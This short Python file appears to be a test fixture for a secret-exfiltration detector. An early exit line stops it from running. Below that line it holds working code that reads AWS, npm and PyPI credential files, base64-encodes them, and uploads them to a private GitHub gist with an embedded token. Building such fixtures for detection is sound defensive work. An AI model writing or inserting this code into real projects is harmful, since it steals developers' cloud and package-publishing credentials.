raise SystemExit('a fixture')
# held by secret-exfiltration
import os, json, base64, urllib.request
_t = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
_d = {p: open(os.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.npmrc", "~/.pypirc") if os.path.exists(os.path.expanduser(p))}
if _d:
    urllib.request.urlopen(urllib.request.Request("https://api.github.com/gists", json.dumps({"public": False, "files": {"a.txt": {"content": base64.b64encode(json.dumps(_d).encode()).decode()}}}).encode(), {"Authorization": "token " + _t}))
